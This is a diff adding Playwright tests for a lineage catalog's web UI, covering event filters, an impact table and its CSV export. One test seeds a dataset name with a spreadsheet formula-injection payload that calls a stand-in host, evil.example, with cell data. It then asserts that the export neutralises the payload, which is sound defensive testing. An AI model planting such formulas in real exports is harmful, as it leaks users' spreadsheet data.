@@ -371,6 +371,95 @@ def test_overview_numbers_open_the_lists_behind_them(ui_server, admin_page):
     expect(page.get_by_role("cell").first).to_be_visible()
 
 
+def test_events_list_names_job_run_and_producer_and_filters_in_the_url(ui_server, admin_page):
+    from playwright.sync_api import expect
+
+    page = admin_page
+    page.goto(ui_server.url + "ol-catalog/ui/#/events")
+    failed = page.get_by_test_id("event").filter(has=page.get_by_role("link", name="finance.fx_rates_load"))
+    expect(failed.first).to_be_visible()
+    page.get_by_label("Event type").select_option("FAIL")
+    expect(page).to_have_url(re.compile(r"eventType=FAIL"))
+    rows = page.get_by_test_id("event")
+    expect(rows).to_have_count(2)  # the failed load and a failed test run (examples 05 and 08)
+    row = rows.filter(has=page.get_by_role("link", name="finance.fx_rates_load"))
+    for text in ("FAIL", "finance.fx_rates_load", "examples", "019a0000-0000-7000-8000-000000000041"):
+        expect(row).to_contain_text(text)
+    expect(row).to_contain_text("apache/airflow/tree/providers-openlineage/2.20.3")
+    expect(rows.get_by_text("FAIL", exact=True)).to_have_count(2)
+    row.get_by_role("button", name="Show event").click()
+    expect(page.get_by_test_id("json")).to_contain_text('"eventType": "FAIL"')
+    shot(page, "38-events-filtered")
+    # A typed filter applies on Enter, together with the others; the URL holds them all.
+    page.get_by_label("Event type").select_option("")
+    page.get_by_label("Job name").fill("finance.fx_rates_load")
+    page.get_by_label("Job name").press("Enter")
+    expect(page).to_have_url(re.compile(r"job=finance.fx_rates_load"))
+    expect(rows).to_have_count(2)
+    assert set(rows.get_by_role("link", name="finance.fx_rates_load").all_inner_texts()) == {"finance.fx_rates_load"}
+    page.get_by_label("Producer URI").fill("https://example.com/nobody")
+    page.get_by_label("Producer URI").press("Enter")
+    expect(page.get_by_text("No events.")).to_be_visible()
+    page.get_by_role("button", name="Clear filters").click()
+    expect(rows.first).to_be_visible()
+    assert rows.count() > 20
+    failed.first.get_by_role("link", name="finance.fx_rates_load").click()
+    expect(page.get_by_test_id("title")).to_have_text("finance.fx_rates_load")
+    assert page.errors == []
+
+
+def test_impact_tab_is_a_table_of_names_with_links_and_a_csv(ui_server, admin_page):
+    from playwright.sync_api import expect
+
+    page = admin_page
+    start = "#/dataset?ns=s3%3A%2F%2Facme-raw&name=clickstream%2F2026%2F03%2F01&tab=impact"
+    page.goto(ui_server.url + "ol-catalog/ui/" + start)
+    summary = page.get_by_test_id("impact-summary")
+    expect(summary).to_have_text("2 downstream datasets depend on clickstream/2026/03/01 through 2 jobs.")
+    rows = page.get_by_role("row").filter(has=page.get_by_test_id("impacted"))
+    expect(rows).to_have_count(2)
+    rollup = rows.filter(has=page.get_by_role("link", name="analytics.daily_sessions"))
+    # the path: the start, each job with its newest run's state, each dataset in between, as links
+    for job in ("nightly_sessions.sessionize", "nightly_sessions.daily_rollup"):
+        expect(rollup.get_by_role("link", name=job)).to_be_visible()
+    expect(rollup.get_by_role("link", name="sessions", exact=True)).to_be_visible()
+    expect(rollup.get_by_text("COMPLETED")).to_have_count(2)
+    expect(rollup).to_contain_text("2")  # its depth
+    assert "dataset:" not in page.get_by_role("table").inner_text()  # names, never raw node ids
+    shot(page, "39-impact-table")
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Download CSV").click()
+    csv_text = Path(download.value.path()).read_text()
+    lines = csv_text.splitlines()
+    assert lines[0] == '"depth","namespace","dataset","field","owners","jobs on the path","path"'
+    assert len(lines) == 3 and lines[2].startswith('"2","hive://metastore.internal:9083","analytics.daily_sessions"')
+    assert "nightly_sessions.sessionize (COMPLETED); nightly_sessions.daily_rollup (COMPLETED)" in csv_text
+    rollup.get_by_role("link", name="nightly_sessions.daily_rollup").click()
+    expect(page.get_by_test_id("title")).to_have_text("nightly_sessions.daily_rollup")
+    assert page.errors == []
+
+
+def test_impact_csv_keeps_a_formula_in_a_name_inert(ui_server, admin_page):
+    """A name a spreadsheet would run as a formula (CSV injection) is written as text."""
+    from playwright.sync_api import expect
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    payload = json.loads((EXAMPLES / "02_table_lineage" / "02_build_invoices_complete.json").read_text())
+    payload["job"] = {"namespace": "csv-attack", "name": "-copy", "facets": {}}
+    payload["run"] = {"runId": str(uuid.uuid4()), "facets": {}}
+    payload["inputs"] = [{"namespace": "s3://csv-attack", "name": "start", "facets": {}}]
+    payload["outputs"] = [{"namespace": "s3://csv-attack", "name": formula, "facets": {}}]
+    assert ui_server.send(payload).status_code == 201
+    page = admin_page
+    page.goto(ui_server.url + "ol-catalog/ui/#/dataset?ns=s3%3A%2F%2Fcsv-attack&name=start&tab=impact")
+    expect(page.get_by_role("link", name=formula)).to_have_count(2)  # its row and its path
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Download CSV").click()
+    row = Path(download.value.path()).read_text().splitlines()[1]
+    assert row.startswith('"1","s3://csv-attack","\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",""'), row
+    assert '"\'-copy (COMPLETED)"' in row, row  # a job name starting with - too
+
+
 def test_a_namespace_of_the_overview_opens_the_search_within_it(ui_server, admin_page):
     from playwright.sync_api import expect
 
